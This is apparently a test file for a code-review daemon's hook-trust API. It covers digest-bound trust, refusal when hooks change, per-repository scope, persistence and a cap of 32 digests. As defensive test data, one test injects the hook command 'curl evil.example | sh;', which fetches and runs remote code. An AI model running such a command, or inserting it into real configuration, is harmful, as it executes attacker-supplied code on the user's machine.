import { describe, expect, test } from "bun:test";
import { writeFileSync } from "node:fs";
import { testDaemon } from "../support/daemon.ts";
import { testRepo } from "../support/repo.ts";
import { tempDir } from "../support/temp.ts";

const hooks = '[[hooks]]\nevent = "review.failed"\ncommand = "notify {sha}"\n';

async function scene() {
  const dir = tempDir();
  const repo = testRepo();
  repo.write(".roborev.toml", hooks);
  const daemon = await testDaemon(dir.join("data"));
  await daemon.post("/api/repos/register", { repo_path: repo.path });
  const look = async (path = repo.path) =>
    await daemon.get(`/api/repos/hooks?${new URLSearchParams({ path })}`);
  const trust = (request: object) => daemon.post("/api/repos/trust", { repo_path: repo.path, ...request });
  return {
    dir,
    repo,
    daemon,
    look,
    trust,
    digest: async () => ((await look()).body as { digest: string }).digest,
    trusted: async () => ((await look()).body as { trusted: boolean }).trusted,
    async [Symbol.asyncDispose]() {
      await daemon[Symbol.asyncDispose]();
      repo[Symbol.dispose]();
      dir[Symbol.dispose]();
    },
  };
}

describe("C12 trust", () => {
  test("is asked for with everything that would run, given for exactly that, and taken back", async () => {
    await using s = await scene();
    const place = { repo_path: s.repo.path, file: `${s.repo.path}/.roborev.toml` };
    const digest = await s.digest();
    expect((await s.look()).body).toEqual({
      ...place,
      hooks: [{ event: "review.failed", command: "notify {sha}" }],
      problems: [],
      digest,
      trusted: false,
    } as never);
    const answer = (trusted: boolean, changed: boolean) => ({
      status: 200,
      body: { repo_path: s.repo.path, trusted, changed } as never,
    });
    expect(await s.trust({ digest })).toEqual(answer(true, true));
    expect(await s.trust({ digest })).toEqual(answer(true, false));
    expect(await s.trusted()).toBe(true);
    expect(await s.trust({})).toEqual(answer(false, true));
    expect(await s.trust({})).toEqual(answer(false, false));
    expect(await s.trusted()).toBe(false);
  });

  test("is refused for hooks that changed since they were read", async () => {
    await using s = await scene();
    const digest = await s.digest();
    s.repo.write(".roborev.toml", hooks.replace("notify", "curl evil.example | sh;"));
    expect(await s.trust({ digest })).toMatchObject({ status: 409, body: { code: "E_CONFLICT" } });
    s.repo.write(".roborev.toml", "");
    expect(await s.trust({ digest })).toMatchObject({ status: 409 });
    expect((await s.look()).body).toMatchObject({ hooks: [], trusted: false });
    for (const bad of ["x", "A".repeat(64), digest.slice(1)])
      expect(await s.trust({ digest: bad })).toMatchObject({ status: 400, body: { code: "E_INVALID" } });
  });

  test("belongs to the repository, not to a copy of it, and outlives the daemon", async () => {
    await using s = await scene();
    using copy = testRepo();
    copy.write(".roborev.toml", hooks);
    await s.daemon.post("/api/repos/register", { repo_path: copy.path });
    await s.trust({ digest: await s.digest() });
    expect((await s.look(copy.path)).body).toMatchObject({ trusted: false });
    const tree = s.dir.join("tree");
    s.repo.git("worktree", "add", "-q", tree);
    writeFileSync(`${tree}/.roborev.toml`, hooks);
    expect((await s.look(tree)).body).toMatchObject({ trusted: true, file: `${tree}/.roborev.toml` });
    await s.daemon.parts.stopWork();
    await s.daemon.parts.close();
    await using again = await testDaemon(s.dir.join("data"));
    expect((await again.get(`/api/repos/hooks?path=${s.repo.path}`)).body).toMatchObject({ trusted: true });
  });

  test("ends with the registration, and there is none without", async () => {
    await using s = await scene();
    await s.trust({ digest: await s.digest() });
    await s.daemon.post("/api/repos/unregister", { repo_path: s.repo.path });
    const refused = { status: 404, body: { code: "E_NOT_TRACKED" } };
    expect(await s.look()).toMatchObject(refused);
    expect(await s.trust({})).toMatchObject(refused);
    await s.daemon.post("/api/repos/register", { repo_path: s.repo.path });
    expect(await s.trusted()).toBe(false);
    for (const path of [s.dir.path, "/nowhere", "relative"]) expect((await s.look(path)).status).toBe(400);
  });

  test("of many contents the newest 32 stay", async () => {
    await using s = await scene();
    const first = hooks;
    for (let n = 0; n < 32; n++) {
      s.repo.write(".roborev.toml", n === 0 ? first : `${hooks}timeout = ${n}\n`);
      await s.trust({ digest: await s.digest() });
    }
    s.repo.write(".roborev.toml", first);
    expect(await s.trusted()).toBe(true);
    s.repo.write(".roborev.toml", `${hooks}timeout = 99\n`);
    await s.trust({ digest: await s.digest() });
    expect(await s.trusted()).toBe(true);
    s.repo.write(".roborev.toml", first);
    expect(await s.trusted()).toBe(false);
  });
});
